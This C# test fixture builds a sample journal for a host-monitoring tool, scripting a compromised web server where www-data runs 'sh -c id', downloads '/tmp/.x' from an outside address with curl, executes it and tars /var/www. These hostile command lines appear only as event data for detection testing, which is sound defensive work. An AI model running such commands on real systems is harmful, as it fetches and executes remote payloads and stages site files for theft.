using Monitor.Sdk.Events;
using Monitor.Sdk.EventSet;

namespace Monitor.Journal.Tests.Specification;

/// <summary>The journal in samples/journal: a web server on which somebody gets a shell. Written by the page alone.</summary>
internal sealed class WebServerJournal
{
    private const ulong Audit = 1, Detect = 2;
    private const long Delay = 200_000_000;

    private static readonly string?[] NoName = [null];

    private SegmentBuilder _segment;

    private WebServerJournal() => _segment = Begin(0x8f0d1c2b3a495867, 1, new byte[32]);

    /// <summary>The files by their paths inside the folder.</summary>
    public Dictionary<string, byte[]> Files { get; } = [];

    public static WebServerJournal Build()
    {
        WebServerJournal journal = new();
        journal.WriteFirst();
        journal.WriteSecond();
        return journal;
    }

    /// <summary>The same with a byte turned in the middle of the first segment.</summary>
    public static Dictionary<string, byte[]> BuildDamaged()
    {
        Dictionary<string, byte[]> files = new(Build().Files.Where(file => file.Key.EndsWith(".segment", StringComparison.Ordinal)));
        string first = files.Keys.Order(StringComparer.Ordinal).First();
        ParsedFrame entry = new SegmentParser(files[first]).Frames().First(frame => frame is { Kind: Kind.Entry, Sequence: 5 });
        files[first] = [.. files[first]];
        files[first][entry.Offset + 100] ^= 0x20;
        return files;
    }

    private static SegmentBuilder Begin(ulong salt, ulong first, byte[] chain)
    {
        SegmentBuilder segment = new(SampleEvents.Journal, salt, first, SampleEvents.Start + (long)(first - 1) * SampleEvents.Second, chain);
        segment.Description(SampleEvents.Description(["audit", "detect"], [("trail", "audit"), ("siem", "detect")]));
        return segment;
    }

    private void WriteFirst()
    {
        _segment.Entry(Layout.Everything | Audit | Detect, [null, null], SampleEvents.Record(1, new AgentStarted
        {
            UtcTime = new EventTime(SampleEvents.Start + SampleEvents.Second),
            Version = "0.1.0",
            ProcessId = 3977,
            Configuration = "/etc/monitor/monitor.yaml",
            Plugins = "file,process-create,process-terminate,syslog",
            System = "Debian GNU/Linux 13",
        }));
        Commit();
        Create(Audit, NoName, "/usr/sbin/nginx", "nginx -g daemon on;", "root");
        Create(Audit, NoName, "/usr/sbin/cron", "cron -f", "root");
        Commit();
        Create(Audit | Detect, [null, "shell of a web server"], "/usr/bin/dash", "sh -c id", "www-data");
        Create(Audit, NoName, "/usr/bin/id", "id", "www-data");
        End("/usr/bin/id");
        End("/usr/bin/dash");
        Ledger(7);
        Commit();
        Create(Audit | Detect, [null, "download"], "/usr/bin/curl", "curl -so /tmp/.x http://203.0.113.9/x", "www-data");
        End("/usr/bin/curl");
        Commit();
        _segment.Seal();
        Keep();
    }

    private void WriteSecond()
    {
        _segment = Begin(0x1122334455667788, _segment.Next, _segment.Chain);
        Create(Audit | Detect, ["run from a temporary folder", "run from a temporary folder"], "/tmp/.x", "/tmp/.x -d", "www-data");
        Create(Audit, NoName, "/usr/bin/tar", "tar -cz /var/www", "www-data");
        Ledger(11);
        Commit();
        End("/usr/bin/tar");
        Commit();
        Keep();
        Files["cursors/trail.cursor"] = new CursorSlot(SampleEvents.Journal, 9, 13, [(1, 7, 0, 0), (5, 4, 0, 0), (1100, 1, 0, 0)]).Bytes;
        Files["cursors/siem.cursor"] = new CursorSlot(SampleEvents.Journal, 4, 8, [(1, 1, 0, 0), (1100, 1, 0, 0)]).Bytes;
    }

    private void Create(ulong routes, string?[] names, string image, string commandLine, string user) =>
        _segment.Entry(routes, names, SampleEvents.Create(_segment.Next, image, commandLine, user));

    private void End(string image) => _segment.Entry(Audit, NoName, SampleEvents.Terminate(_segment.Next, user: "www-data", image: image));

    private void Commit() => _segment.Commit(SampleEvents.Start + (long)(_segment.Next - 1) * SampleEvents.Second + Delay);

    private void Ledger(ulong count) => _segment.Ledger((1, 0, 0, uint.MaxValue, count), (1, 3, 0, 0, count - 2), (1, 3, 0, 1, 1));

    private void Keep() => Files[_segment.Name] = _segment.Bytes;
}
